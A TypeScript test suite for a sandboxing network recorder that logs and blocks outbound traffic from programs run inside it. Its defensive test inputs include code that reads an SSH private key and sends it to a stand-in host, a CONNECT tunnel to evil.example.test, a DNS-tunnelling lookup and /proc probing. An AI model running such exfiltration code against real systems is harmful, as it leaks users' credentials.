import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import type { RequestListener } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { digestOf } from '#kernel';
import { openNetwork, runtimeEnvironment } from '#system';
import { type Attempt, openRecorder, type Recorder, type RecorderOptions } from './index.ts';
import { openTestUpstream, type TestUpstream } from './testing/index.ts';
import { namespacesHere } from '#system/testing';

// On a machine that lacks them they are unpacked into the cache first, as a capture does.
const { skip, tools } = await namespacesHere();
const env = { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', ...runtimeEnvironment(process.env) };

const BIG = 32 * 1024 * 1024;
const handler: RequestListener = (request, response) => {
  const { url = '', headers } = request;
  if (url === '/hop') return void response.writeHead(302, { location: '/sub/hop2' }).end('moved');
  if (url === '/sub/hop2') {
    return void response.writeHead(307, { location: 'https://files.example.test:8443/end' }).end();
  }
  if (url === '/broken') {
    response.writeHead(200);
    response.write('x'.repeat(1000));
    return void setTimeout(() => response.destroy(), 50);
  }
  if (url === '/big') return void response.end(Buffer.alloc(BIG, 7));
  response.setHeader('x-host', headers.host ?? '');
  response.end(`${request.method} ${headers.host} ${url} ${headers.authorization ?? '-'}`);
};

// A suite of its own: hooks of the file would keep the enclave up while all other files are tested.
describe('a recorded enclave', { skip }, () => {
  let upstream: TestUpstream;
  let recorder: Recorder;
  let work = '';
  let own = '';
  const seen: Attempt[] = [];
  const options = (): RecorderOptions => ({
    permission: { known: [] },
    openNetwork,
    routeFor: async () => ({ ...upstream.route, authorization: () => 'Bearer of-the-machine' }),
    agent: 'test/1',
    ports: [8443],
    folder: own,
    writable: [work],
    env: process.env,
    tools,
    signal: new AbortController().signal,
  });
  /** Runs a module of Node inside; what it logs comes back. */
  const node = async (source: string): Promise<string> => {
    const ended = await recorder.run(process.execPath, ['--input-type=module', '-e', source], {
      cwd: work,
      env,
      timeout: 30_000,
    });
    return `${ended.stdout}${ended.stderr}`.trim();
  };
  const tried = async (wanted: Partial<Attempt>): Promise<Attempt | undefined> =>
    (await recorder.attempts()).find((one) =>
      Object.entries(wanted).every(([key, value]) => one[key as keyof Attempt] === value),
    );

  before(async () => {
    if (skip !== false) return;
    work = await mkdtemp(join(tmpdir(), 'sallyport recorder '));
    own = await mkdtemp(join(tmpdir(), 'sallyport recorder '));
    upstream = await openTestUpstream(handler);
    recorder = await openRecorder(options());
  });
  after(async () => {
    if (skip !== false) return;
    await recorder.close();
    await upstream.close();
    for (const folder of [work, own]) await rm(folder, { recursive: true, force: true });
  });

  test(
    'programs reach names over TLS and plain HTTP without knowing of it, and each request is recorded',
    { skip },
    async () => {
      const out = await node(`
      for (const url of ['https://registry.example.test/a?x=1', 'http://plain.example.test/b', 'https://registry.example.test:8443/c'])
        console.log(await (await fetch(url)).text());`);
      assert.deepEqual(out.split('\n'), [
        'GET registry.example.test /a?x=1 Bearer of-the-machine',
        'GET plain.example.test /b -',
        'GET registry.example.test:8443 /c Bearer of-the-machine',
      ]);
      const requests = recorder.requests().slice(-3);
      assert.deepEqual(
        requests.map(({ url, outcome, status, machine }) => [url, outcome, status, machine]),
        [
          ['https://registry.example.test/a', 'answered', 200, 'prepare'],
          ['http://plain.example.test/b', 'answered', 200, 'prepare'],
          ['https://registry.example.test:8443/c', 'answered', 200, 'prepare'],
        ],
      );
      assert.deepEqual(
        requests.map(({ digest }) => digest),
        out.split('\n').map((line) => digestOf(line)),
      );
      assert.equal(await tried({ name: 'registry.example.test' }), undefined);
    },
  );

  test('a chain of redirects over hosts and ports is one request', { skip }, async () => {
    const out = await node(`
      const answer = await fetch('https://registry.example.test/hop');
      console.log(answer.url, (await answer.text()).length);`);
    assert.match(out, /^https:\/\/files\.example\.test:8443\/end \d+$/);
    const last = recorder.requests().at(-1);
    assert.equal(last?.url, 'https://registry.example.test/hop');
    assert.deepEqual(last?.redirects, [
      'https://registry.example.test/sub/hop2',
      'https://files.example.test:8443/end',
    ]);
    assert.equal(last?.status, 200);
  });

  test('what breaks off breaks off, and a large body arrives whole', { skip }, async () => {
    const out = await node(`
      import { createHash } from 'node:crypto';
      await fetch('https://registry.example.test/broken').then((a) => a.text()).then(() => console.log('whole'), () => console.log('broken'));
      const hash = createHash('sha256');
      for await (const piece of (await fetch('https://registry.example.test/big')).body) hash.update(piece);
      console.log(hash.digest('hex'));`);
    const digest = digestOf(Buffer.alloc(BIG, 7));
    assert.deepEqual(out.split('\n'), ['broken', digest.slice('sha256:'.length)]);
    const requests = recorder.requests().slice(-2);
    assert.deepEqual(
      requests.map(({ outcome, size }) => [outcome, size]),
      [
        ['broken', 1000],
        ['answered', BIG],
      ],
    );
    assert.equal(requests[1]?.digest, digest);
  });

  test('other ports and protocols are refused, and recorded', { skip }, async () => {
    const out = await node(`
      import { connect } from 'node:net';
      import { createSocket } from 'node:dgram';
      import { Resolver } from 'node:dns/promises';
      const raw = (port, host, text) => new Promise((resolve) => {
        const socket = connect({ port, host }, () => text && socket.write(text));
        socket.setTimeout(8000, () => resolve('silent'));
        socket.on('data', (data) => resolve('answered ' + data));
        socket.on('error', (error) => resolve(error.code));
        socket.on('close', () => resolve('closed'));
      });
      console.log(await raw(22, '203.0.113.7', 'SSH-2.0-x\\r\\n'));
      console.log(await raw(443, '203.0.113.8', 'not http at all'));
      console.log((await raw(443, 'registry.example.test', 'CONNECT evil.example.test:22 HTTP/1.1\\r\\nHost: evil.example.test\\r\\n\\r\\n')).slice(0, 21));
      console.log((await raw(80, '203.0.113.9', 'GET / HTTP/1.1\\r\\nHost: other.example.test:1/x\\r\\n\\r\\n')).slice(0, 21));
      const udp = createSocket('udp4');
      udp.send('\\xc3\\x00\\x00\\x00\\x01quic', 443, '203.0.113.10');
      const resolver = new Resolver({ timeout: 2000, tries: 1 });
      await resolver.resolveTxt('c2VjcmV0.tunnel.example.test').catch(() => undefined);
      await resolver.resolve4('bytes.tunnel.example.test').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 200));
      udp.close();`);
    const lines = out.split('\n');
    assert.equal(lines.length, 4, out);
    assert.equal(
      lines.some((line) => line.startsWith('silent')),
      false,
      out,
    );
    assert.match(lines[2] ?? '', /501/);
    assert.match(lines[3] ?? '', /400/);
    for (const wanted of [
      { address: '203.0.113.7', port: 22, protocol: 'tcp', speaks: 'ssh' },
      {
        address: '203.0.113.8',
        port: 443,
        protocol: 'tcp',
        firstBytes: Buffer.from('not http at all').toString('hex'),
      },
      { port: 443, request: 'CONNECT evil.example.test' + 'evil.example.test:22' },
      { address: '203.0.113.9', port: 80, speaks: 'http' },
      { address: '203.0.113.10', port: 443, protocol: 'udp' },
      { kind: 'name', name: 'c2vjcmv0.tunnel.example.test' },
      { kind: 'name', name: 'bytes.tunnel.example.test' },
    ] as Partial<Attempt>[]) {
      assert.notEqual(
        await tried(wanted),
        undefined,
        `${JSON.stringify(wanted)}\n${JSON.stringify(await recorder.attempts(), null, 1)}`,
      );
    }
    assert.equal(
      upstream.tunnels.some((host) => host.includes('evil') || host.includes('203.0.113')),
      false,
    );
  });

  test('a request behind another name than the one that its connection was for is refused', { skip }, async () => {
    const out = await node(`
      import { request } from 'node:https';
      import { connect } from 'node:tls';
      const ask = (options) => new Promise((resolve) => request({ agent: false, ...options }, (answer) => { answer.resume(); resolve(answer.statusCode); }).on('error', (e) => resolve(e.code)).end());
      console.log(await ask({ host: 'registry.example.test', servername: 'registry.example.test', path: '/', headers: { host: 'hidden.example.test' } }));
      // A resumed session: the server is not asked for a certificate again.
      const session = await new Promise((resolve) => {
        const socket = connect({ host: 'registry.example.test', port: 443, servername: 'registry.example.test' });
        socket.once('session', (one) => { resolve(one); socket.destroy(); });
      });
      console.log(await new Promise((resolve) => {
        const socket = connect({ host: 'registry.example.test', port: 443, servername: 'registry.example.test', session }, () => {
          socket.write('GET / HTTP/1.1\\r\\nHost: hidden.example.test\\r\\n\\r\\n');
          socket.once('data', (data) => { resolve(socket.isSessionReused() + ' ' + String(data).slice(9, 12)); socket.destroy(); });
        });
      }));
      console.log(await ask({ host: '203.0.113.20', path: '/', headers: { host: 'hidden.example.test' } }));
      console.log(await ask({ host: '203.0.113.20', path: '/' }));`);
    // Nobody upstream has a certificate for an address.
    assert.deepEqual(out.split('\n'), ['421', 'true 421', '200', '502']);
    const byNumber = recorder.requests().find(({ url }) => url === 'https://203.0.113.20/');
    assert.equal(byNumber?.outcome, 'failed');
    assert.equal(
      recorder.requests().some(({ url }) => url.includes('hidden') && url.includes('registry')),
      false,
    );
    assert.notEqual(await tried({ serverName: 'registry.example.test', speaks: 'http' }), undefined);
  });

  test('a client that does not trust the authority of the run is told of', { skip }, async () => {
    const out = await node(`
      import { get } from 'node:https';
      get('https://pinned.example.test/', { ca: [] }).on('error', (error) => console.log(error.code));`);
    assert.match(out, /CERT|SELF_SIGNED|UNABLE/);
    assert.notEqual(await tried({ serverName: 'pinned.example.test', speaks: 'tls' }), undefined);
  });

  test('who asks is known, and what stands where a key would is not carried out', { skip }, async () => {
    const out = await node(`
      import { existsSync, readFileSync } from 'node:fs';
      const [key] = [process.env.HOME + '/.ssh/id_ed25519'].filter((path) => existsSync(path)).map((path) => readFileSync(path, 'utf8'));
      console.log(key === undefined ? 'nobody watches' : 'watched');
      const body = key?.split('\\n').slice(1, -2).join('') ?? '';
      const answers = [
        await fetch('https://collect.example.test/?k=' + encodeURIComponent(body)),
        await fetch('https://collect.example.test/', { headers: { 'x-key': body } }),
        await fetch('https://registry.example.test/who'),
      ];
      console.log(answers.map(({ status }) => status).join(' '));`);
    const last = recorder.requests().at(-1);
    assert.equal(last?.url, 'https://registry.example.test/who');
    if (out.startsWith('nobody watches')) return;
    assert.equal(out, 'watched\n403 403 200');
    assert.match(last?.process?.command ?? '', /node/);
    const leaks = (await recorder.attempts()).filter(({ leaks: path }) => path !== undefined);
    assert.deepEqual(
      leaks.map(({ serverName, leaks: path }) => [serverName, path?.endsWith('/.ssh/id_ed25519')]),
      [
        ['collect.example.test', true],
        ['collect.example.test', true],
      ],
    );
    assert.notEqual(await tried({ kind: 'read' }), undefined);
    assert.equal(
      upstream.tunnels.some((host) => host.includes('collect')),
      false,
    );
  });

  test('the channel and the key of the authority are out of reach', { skip }, async () => {
    const out = await node(`
      import { readdirSync, readlinkSync, readFileSync } from 'node:fs';
      const sockets = readdirSync('/proc/self/fd').map((fd) => { try { return Number(fd) > 2 && readlinkSync('/proc/self/fd/' + fd); } catch { return ''; } });
      console.log(sockets.filter((one) => String(one).startsWith('socket:')).length);
      console.log(readdirSync('/proc').filter((name) => /^\\d+$/.test(name)).some((pid) => {
        try { return readFileSync('/proc/' + pid + '/cmdline', 'utf8').includes('agent' + '/main'); } catch { return false; }
      }));`);
    assert.deepEqual(out.split('\n'), ['0', 'false']);
    const files = await readFile('/proc/self/mountinfo', 'utf8');
    assert.equal(files.includes('sallyport recorder'), false);
  });

  test('each run has an authority of its own', { skip }, async () => {
    const first = await node(
      `import { readFileSync } from 'node:fs'; console.log(readFileSync(process.env.SSL_CERT_FILE, 'utf8'))`,
    );
    await writeFile(join(work, 'old.pem'), first);
    const second = await openRecorder({ ...options(), folder: await mkdtemp(join(own, 'second-')) });
    try {
      const source = `import { readFileSync } from 'node:fs'; import { get } from 'node:https';
        get('https://registry.example.test/', { ca: readFileSync('old.pem') }).on('error', (error) => console.log(error.code));`;
      const ended = await second.run(process.execPath, ['--input-type=module', '-e', source], { cwd: work, env });
      assert.match(ended.stdout, /CERT|SELF_SIGNED|UNABLE/);
    } finally {
      await second.close();
    }
  });

  test('aborting ends what runs and what is under way', { skip }, async () => {
    const stop = new AbortController();
    const aborted = await openRecorder({
      ...options(),
      folder: await mkdtemp(join(own, 'third-')),
      signal: stop.signal,
    });
    const running = aborted.run('/bin/sleep', ['300'], { cwd: work, env });
    setTimeout(() => stop.abort(), 200);
    await assert.rejects(running, { name: 'AbortError' });
    await aborted.close();
    assert.equal(seen.length, 0);
  });
});
